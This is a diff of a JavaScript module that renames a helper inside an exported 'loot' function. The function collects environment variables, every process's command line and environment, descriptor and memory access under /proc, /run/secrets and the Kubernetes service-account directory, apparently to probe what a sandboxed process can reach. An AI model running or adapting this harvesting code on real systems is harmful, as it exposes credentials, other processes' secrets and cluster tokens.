@@ -23,9 +23,9 @@ async function ask(method, url) {
     return String(error.cause?.code ?? error.name);
   }
 }
-function tell(look) {
+function outcomeOf(read) {
   try {
-    return look() ?? 'seen';
+    return read() ?? 'seen';
   } catch (error) {
     return error.code;
   }
@@ -36,11 +36,11 @@ const processes = readdirSync('/proc')
 export const loot = async () => ({
   environment: process.env,
   processes: processes.map((at) => ({
-    command: tell(() => readFileSync(at + '/cmdline', 'utf8')),
-    environment: tell(() => readFileSync(at + '/environ', 'utf8')),
-    files: tell(() => readdirSync(at + '/root').join()),
-    descriptors: tell(() => [...new Set(readdirSync(at + '/fd').map((fd) => tell(() => void readlinkSync(at + '/fd/' + fd))))].join()),
-    memory: tell(() => closeSync(openSync(at + '/mem'))),
+    command: outcomeOf(() => readFileSync(at + '/cmdline', 'utf8')),
+    environment: outcomeOf(() => readFileSync(at + '/environ', 'utf8')),
+    files: outcomeOf(() => readdirSync(at + '/root').join()),
+    descriptors: outcomeOf(() => [...new Set(readdirSync(at + '/fd').map((fd) => outcomeOf(() => void readlinkSync(at + '/fd/' + fd))))].join()),
+    memory: outcomeOf(() => closeSync(openSync(at + '/mem'))),
   })),
   secrets: read('/run/secrets'),
   serviceAccount: read('/var/run/secrets/kubernetes.io'),
